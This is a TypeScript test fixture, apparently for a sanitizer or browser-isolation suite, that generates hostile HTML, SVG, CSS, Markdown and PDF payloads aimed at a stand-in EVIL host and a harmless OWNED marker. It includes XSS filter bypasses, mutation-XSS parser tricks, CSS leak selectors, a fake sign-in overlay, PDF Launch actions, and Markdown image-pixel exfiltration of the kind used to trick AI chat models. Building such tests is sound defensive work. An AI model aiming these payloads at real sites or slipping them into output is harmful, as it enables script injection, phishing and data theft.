/**
 * Hostile HTML, SVG, CSS, Markdown and PDF for a real browser: everything that could load, run, lead away or cover the
 * window. Each names the address `EVIL`, which must never be asked, and calls `OWNED`, which must never run.
 *
 * The vectors are old and public kinds (attributes that load, elements that run, parsers that disagree), written anew.
 */

/** What a vector is made for: the address that listens, and the code that tells. */
export type Trap = { readonly evil: string; readonly owned: string };

/** Code that shows wherever it runs: in this frame, in the window around it, or on the console. */
export const OWNED = "console.log(&quot;OWNED&quot;);top.owned=true".replaceAll("&quot;", "'");

/** HTML that loads, runs or leads away, by kind. */
export function hostileHtml({ evil, owned }: Trap): Readonly<Record<string, readonly string[]>> {
  return {
    "pictures and media": [
      `<img src="${evil}/img">`,
      `<img src=x onerror="${owned}">`,
      `<img srcset="${evil}/set1 1x, ${evil}/set2 2x">`,
      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${evil}/set3 1x" sizes="100vw">`,
      `<picture><source srcset="${evil}/source"><img alt="p"></picture>`,
      `<img src="//${new URL(evil).host}/scheme-less">`,
      `<img src=" ${evil}/space" loading="eager">`,
      `<img lowsrc="${evil}/lowsrc" dynsrc="${evil}/dynsrc" longdesc="${evil}/longdesc">`,
      `<image src="${evil}/image">`,
      `<video src="${evil}/video" poster="${evil}/poster" autoplay onloadstart="${owned}"></video>`,
      `<audio src="${evil}/audio" autoplay onerror="${owned}"></audio>`,
      `<video><source src="${evil}/vsource"><track src="${evil}/track" default></video>`,
      `<bgsound src="${evil}/bgsound"><embed src="${evil}/embed"><object data="${evil}/object"></object>`,
      `<applet code="x" codebase="${evil}/applet"></applet>`,
      `<body background="${evil}/body"><table background="${evil}/table"><tr><td background="${evil}/td">x</td></tr></table>`,
      `<input type="image" src="${evil}/input" onfocus="${owned}" autofocus>`,
    ],
    "documents and scripts": [
      `<script>${owned}</script>`,
      `<script src="${evil}/script.js"></script><script type="module" src="${evil}/module.js"></script>`,
      `<scr<script>ipt>${owned}</scr</script>ipt>`,
      `<ScRiPt\n>${owned}</sCrIpT\n>`,
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/speculation"]}]}</script>`,
      `<script type="importmap">{"imports":{"x":"${evil}/map.js"}}</script>`,
      `<iframe src="${evil}/frame"></iframe>`,
      `<iframe srcdoc="<script>${owned}</script><img src='${evil}/srcdoc'>"></iframe>`,
      `<iframe src="javascript:${owned}"></iframe>`,
      `<iframe src="data:text/html,<script>${owned}</script>"></iframe>`,
      `<frameset onload="${owned}"><frame src="${evil}/frameset"></frameset>`,
      `<object data="data:text/html,<script>${owned}</script>" type="text/html"></object>`,
      `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
      `<link rel="stylesheet" href="${evil}/sheet"><link rel="preload" as="image" href="${evil}/preload">`,
      `<link rel="prefetch" href="${evil}/prefetch"><link rel="dns-prefetch" href="//tracker.invalid">`,
      `<link rel="preconnect" href="${evil}"><link rel="icon" href="${evil}/icon"><link rel="manifest" href="${evil}/manifest">`,
      `<link rel="modulepreload" href="${evil}/modulepreload"><link rel="import" href="${evil}/import">`,
      `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
      `<meta http-equiv="refresh" content="0;url=javascript:${owned}">`,
      `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${evil}/report">`,
      `<base href="${evil}/base/"><img src="relative"><a href="away" target="_top">away</a>`,
    ],
    handlers: [
      `<body onload="${owned}" onpageshow="${owned}" onresize="${owned}" onfocus="${owned}">`,
      `<details open ontoggle="${owned}"><summary>x</summary></details>`,
      `<select autofocus onfocus="${owned}"><option>x</select><textarea autofocus onfocus="${owned}"></textarea>`,
      `<div onmouseover="${owned}" onclick="${owned}" onpointerenter="${owned}">Dear Nora, move here</div>`,
      `<marquee onstart="${owned}">x</marquee>`,
      `<style>@keyframes k{from{color:red}}</style><p style="animation:k 1s" onanimationstart="${owned}">x</p>`,
      `<p style="transition:all 1s" ontransitionend="${owned}" contenteditable onbeforeinput="${owned}">x</p>`,
      `<dialog open onclose="${owned}">x</dialog><div popover id="pop" onbeforetoggle="${owned}">x</div><button popovertarget="pop">x</button>`,
      `<video onencrypted="${owned}"></video><img src="data:," onload="${owned}" onerror="${owned}">`,
      `<a href="#" onclick="${owned}" onauxclick="${owned}" accesskey="x">click</a>`,
      `<xss id="x" tabindex="1" onfocus="${owned}" autofocus></xss>`,
    ],
    "links and forms": [
      `<a href="${evil}/link" target="_top" ping="${evil}/ping">Your bill</a>`,
      `<a href="javascript:${owned}">run</a>`,
      `<a href="java&#9;script:${owned}">run tab</a>`,
      `<a href="&#1;javascript:${owned}">run control</a>`,
      `<a href="&#106;&#97;vascript:${owned}">run entities</a>`,
      `<a href="vbscript:${owned}">run vb</a>`,
      `<a href="data:text/html,<script>${owned}</script>">run data</a>`,
      `<a href="${evil}/download" download="bill.exe">save</a>`,
      `<map name="m"><area shape="default" href="${evil}/area" target="_top"></map><img usemap="#m" alt="map">`,
      `<form action="${evil}/form" method="post" id="f"><input name="q" value="x"><button>Sign in</button></form>`,
      `<button form="f" formaction="javascript:${owned}" autofocus>x</button><input type="submit" formaction="${evil}/formaction">`,
      `<isindex action="${evil}/isindex"><keygen autofocus onfocus="${owned}">`,
    ],
    "parsers that disagree": [
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${owned}&gt;">`,
      `<noscript><p title="</noscript><img src=x onerror=${owned}>">`,
      `<svg></p><style><a id="</style><img src=1 onerror=${owned}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${owned}>`,
      `<!--><img src=x onerror=${owned}>-->`,
      `<!-- --!><img src=x onerror=${owned}> -->`,
      `<![CDATA[><img src=x onerror=${owned}>]]>`,
      `<?xml-stylesheet href="${evil}/xsl"?><img src=x onerror=${owned}>`,
      `<title><a title="</title><img src=x onerror=${owned}>">`,
      `<textarea><a title="</textarea><img src=x onerror=${owned}>">`,
      `<xmp><a title="</xmp><img src=x onerror=${owned}>">`,
      `<template><img src=x onerror=${owned}></template><template shadowrootmode="open"><img src="${evil}/shadow" onerror="${owned}"></template>`,
      `<img/src="x"/onerror=${owned}>`,
      `<img src=\`x\` onerror=${owned}>`,
      `<svg><![CDATA[<image xlink:href="]]><img src=x onerror=${owned}//">`,
      `<table><caption><svg><title><table><caption></caption></table><style><img src onerror=${owned}>`,
      `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${owned}>">`,
      `<p id="a${"<b>".repeat(600)}deep<img src=x onerror=${owned}>`,
      `<form name="body"><input name="attributes"><input name="parentNode"></form><img name="cookie" src="${evil}/clobber">`,
    ],
  };
}

/** SVG and MathML. */
export function hostileSvg({ evil, owned }: Trap): readonly string[] {
  const svg = (inner: string, attributes = ""): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`;
  return [
    svg("", `onload="${owned}"`),
    svg(`<script>${owned}</script><script href="${evil}/svg.js"/>`),
    svg(`<image href="${evil}/svg-image"/><image xlink:href="${evil}/svg-xlink"/>`),
    svg(`<use href="${evil}/use.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x' onload='${owned}'/>#x"/>`),
    svg(
      `<filter id="f"><feImage href="${evil}/fe-image"/></filter><rect filter="url(#f)"/><rect fill="url(${evil}/fill#x)"/>`,
    ),
    svg(`<animate onbegin="${owned}" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:${owned}"/>`),
    svg(`<a xlink:href="javascript:${owned}"><text y="20">run</text></a><a href="${evil}/svg-a"><text>go</text></a>`),
    svg(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/foreign"/><body onload="${owned}"/></foreignObject>`,
    ),
    svg(`<style>@import "${evil}/svg-import.css"; text{fill:url(${evil}/svg-style)}</style><text>x</text>`),
    svg(`<font-face><font-face-src><font-face-uri href="${evil}/font"/></font-face-src></font-face>`),
    svg(`<handler type="text/javascript">${owned}</handler><discard onbegin="${owned}"/>`),
    svg(`<text><textPath href="${evil}/textpath#p">x</textPath></text><mpath href="${evil}/mpath#p"/>`),
    svg(`<cursor href="${evil}/cursor"/><color-profile href="${evil}/profile"/><tref href="${evil}/tref"/>`),
    `<img src="data:image/svg+xml,${encodeURIComponent(svg(`<script>${owned}</script><image href="${evil}/in-data"/><style>@import "${evil}/in-data.css"</style>`))}">`,
    `<img src="data:image/svg+xml;base64,${Buffer.from(svg(`<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}/in-base64" onerror="${owned}"/></foreignObject>`, `onload="${owned}"`)).toString("base64")}">`,
    `<object type="image/svg+xml" data="data:image/svg+xml,${encodeURIComponent(svg(`<script>${owned}</script>`))}"></object>`,
    `<math><mi xlink:href="javascript:${owned}">run</mi><maction actiontype="statusline" xlink:href="${evil}/maction">x</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src="${evil}/annotation" onerror="${owned}"></annotation-xml></math>`,
  ];
}

/** Styles, as rules and as attributes. */
export function hostileCss({ evil }: Trap): readonly string[] {
  const rules = [
    `@import "${evil}/i1.css";`,
    `@import url(${evil}/i2.css) screen;`,
    `@\\69mport "${evil}/i3.css";`,
    `@im\\port "${evil}/i4.css";`,
    `@/**/import "${evil}/i5.css";`,
    `@IMPORT\n"${evil}/i6.css";`,
    `@charset "x"; @import '${evil}/i7.css' layer(a) supports(display:grid);`,
    `@font-face{font-family:f;src:url(${evil}/f.woff2),local(x)} p{font-family:f}`,
    `@namespace svg url(${evil}/ns);`,
    `@document url(${evil}/doc){p{color:red}}`,
    `p{background:url(${evil}/u1)}`,
    `p{background:u\\72l(${evil}/u2)}`,
    `p{background:\\75\\72\\6c(${evil}/u3)}`,
    `p{background:URL( "${evil}/u4" )}`,
    `p{background:url(/**/${evil}/u5)}`,
    `p{background:url("${evil}/u6`,
    `p{background-image:image-set("${evil}/s1" 1x, url(${evil}/s2) 2x)}`,
    `p{background-image:-webkit-image-set(url(${evil}/s3) 1x)}`,
    `p{background:image("${evil}/im"),src("${evil}/src")}`,
    `p{background:cross-fade(url(${evil}/c1),url(${evil}/c2),50%)}`,
    `p{--x:url(${evil}/var);background:var(--x)}`,
    `p{background:if(style(--y:1):url(${evil}/if);else:url(${evil}/else))}`,
    `@property --z{syntax:"<image>";inherits:false;initial-value:url(${evil}/property)} p{background:var(--z)}`,
    `p::before{content:url(${evil}/content)} li{list-style-image:url(${evil}/list)}`,
    `p{cursor:url(${evil}/cursor),auto;border-image:url(${evil}/border) 1} a:visited{background:url(${evil}/visited)}`,
    `p{mask:url(${evil}/mask#m);clip-path:url(${evil}/clip#c);filter:url(${evil}/filter#f);shape-outside:url(${evil}/shape)}`,
    `p{behavior:url(${evil}/htc);-moz-binding:url(${evil}/xbl#x);width:expression(fetch('${evil}/expression'))}`,
    `input[value^="a"]{background:url(${evil}/leak-a)} html:has(p){background:url(${evil}/has)}`,
    `@media all{@supports (display:block){p{background:url(${evil}/nested)}}} @layer x{p{background:url(${evil}/layer)}}`,
    `@view-transition{navigation:auto} @page{background:url(${evil}/page)} @scope(p){:scope{background:url(${evil}/scope)}}`,
    `</style><img src="${evil}/broke-out"><style>`,
    `p{background:url(data:text/html,<script>top.owned=true</script>)}`,
    `*{position:fixed!important;inset:0!important;z-index:2147483647!important;background:#fff!important}`,
  ];
  return [
    ...rules.map((rule) => `<style>${rule}</style>`),
    `<p style="background:url(${evil}/a1)">x</p>`,
    `<p style="background:u\\72 l(${evil}/a2)">x</p>`,
    `<p style='background:url("${evil}/a3")'>x</p>`,
    `<p style="background:image-set('${evil}/a4' 1x)">x</p>`,
    `<p style="background:&#117;rl(${evil}/a5)">x</p>`,
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session ended. <a href="${evil}/signin">Sign in</a></div>`,
    `<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px">x</div>`,
  ];
}

/** Markdown, as a model might be talked into writing it. */
export function hostileMarkdown({ evil, owned }: Trap): readonly string[] {
  return [
    `![pixel](${evil}/m1?q=48213)`,
    `![pixel][ref]\n\n[ref]: ${evil}/m2`,
    `[![inside](${evil}/m3)](${evil}/m3-link)`,
    `![pixel](<${evil}/m4 with space>)`,
    `![pixel](//${new URL(evil).host}/m5)`,
    `![pixel](data:image/svg+xml,<svg/onload=${owned}>)`,
    `[run](javascript:${owned})`,
    `[run](JaVaScRiPt:${owned})`,
    `[run](java&#x0A;script:${owned})`,
    `[run](&#1;javascript:${owned})`,
    `[run](data:text/html,<script>${owned}</script>)`,
    `[run](vbscript:${owned})`,
    `[run][r]\n\n[r]: javascript:${owned}`,
    `<javascript:${owned}>`,
    `<${evil}/auto>`,
    `${evil}/bare and www.tracker.invalid/bare`,
    `<img src="${evil}/h1" onerror="${owned}">`,
    `<script>${owned}</script>`,
    `<iframe src="${evil}/h2"></iframe><object data="${evil}/h3"></object>`,
    `<style>@import "${evil}/h4.css"</style><p style="background:url(${evil}/h5)">x</p>`,
    `<svg onload="${owned}"><image href="${evil}/h6"/></svg>`,
    `<a href="${evil}/h7" onclick="${owned}" target="_top">bill</a>`,
    `<details open ontoggle="${owned}"><summary>x</summary></details>`,
    `<form action="${evil}/h8"><button>Sign in</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/h9"><base href="${evil}/h10">`,
    `<!-- <img src="${evil}/h11"> -->`,
    `| a | b |\n|---|---|\n| ![c](${evil}/t1) | <img src="${evil}/t2"> |`,
    `- [x] ![c](${evil}/l1)\n- [ ] [run](javascript:${owned})`,
    `Text[^1]\n\n[^1]: ![c](${evil}/f1) [run](javascript:${owned})`,
    `> ![c](${evil}/q1)\n> <img src="${evil}/q2">`,
    `\`\`\`html\n<img src="${evil}/c1" onerror="${owned}">\n\`\`\``,
    `\`\`\`mermaid\ngraph LR; A-->B; click A "${evil}/c2"\n\`\`\``,
    `$$\\href{javascript:${owned}}{x}$$ \\includegraphics{${evil}/tex}`,
    `# ![c](${evil}/title) <img src=x onerror="${owned}">`,
    `[m1](${evil}/fake-citation) [m1]: ${evil}/fake-definition`,
    `[m1]: javascript:${owned} "m1"\n\n[m1]`,
    `[\u202elib ruoY\u202c](${evil}/bidi)`,
    `*[**[![c](${evil}/deep)](javascript:${owned})**](${evil}/deep2)*`,
  ];
}

/** A PDF with scripts and actions of every kind: at opening, at a page, in links, forms, files and media. */
export function hostilePdf({ evil, owned }: Trap): Buffer {
  const js = `(app.alert\\('OWNED'\\); this.submitForm\\('${evil}/pdf-js'\\); app.launchURL\\('${evil}/launch-url'\\); ${owned.replaceAll("'", "").replace("console.log(OWNED);", "")})`;
  const link = (action: string, y: number): string =>
    `<< /Type /Annot /Subtype /Link /Rect [50 ${y} 400 ${y + 20}] /Border [0 0 1] /A << ${action} >> >>`;
  const annotations = [
    link(`/S /URI /URI (${evil}/uri)`, 700),
    link(`/S /URI /URI (javascript:top.owned=true)`, 670),
    link(`/S /JavaScript /JS ${js}`, 640),
    link("/S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >>", 610),
    link(`/S /GoToR /F (${evil}/remote.pdf) /D [0 /Fit] /NewWindow true`, 580),
    link(`/S /SubmitForm /F << /FS /URL /F (${evil}/submit) >> /Flags 4`, 550),
    link(`/S /ImportData /F (${evil}/import.fdf)`, 520),
    link(`/S /Named /N /Print`, 490),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (x) /Rect [50 460 400 480] /AA << /K << /S /JavaScript /JS ${js} >> /Fo << /S /JavaScript /JS ${js} >> >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [50 400 400 450] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${evil}/movie.mp4) >> >> >> >> >>`,
    `<< /Type /Annot /Subtype /FileAttachment /Rect [50 350 70 370] /FS << /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >> >>`,
    `<< /Type /Annot /Subtype /FreeText /Rect [50 300 400 340] /Contents (<img src=x onerror=top.owned=true>) /RC (<body><img src="${evil}/rich"/></body>) /DA (/F1 10 Tf) >>`,
  ];
  const content = "BT /F1 14 Tf 60 760 Td (The invoice of the north depot, please sign.) Tj ET";
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${js} >> /AA << /WC << /S /JavaScript /JS ${js} >> >>
       /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${js} >>] >> /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>] >> >>
       /AcroForm << /Fields [] /NeedAppearances true /XFA 8 0 R /CO [] >> /URI << /Base (${evil}/base/) >> >>`,
    "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> /XObject << /X 6 0 R >> >> /Contents 5 0 R
       /AA << /O << /S /JavaScript /JS ${js} >> /C << /S /Launch /F (calc.exe) >> >> /Annots [${annotations.join("\n")}] >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F << /FS /URL /F (${evil}/reference.pdf) >> /Page 0 >> /OPI << /1.3 << /F (${evil}/opi) >> >> /Length 0 >>\nstream\n\nendstream`,
    "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ..\nendstream",
    `<< /Length ${`<xdp><script>${owned}</script><image href="${evil}/xfa"/></xdp>`.length} >>\nstream\n<xdp><script>${owned}</script><image href="${evil}/xfa"/></xdp>\nendstream`,
  ];
  let text = "%PDF-1.7\n";
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const start = text.length;
  const entries = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}
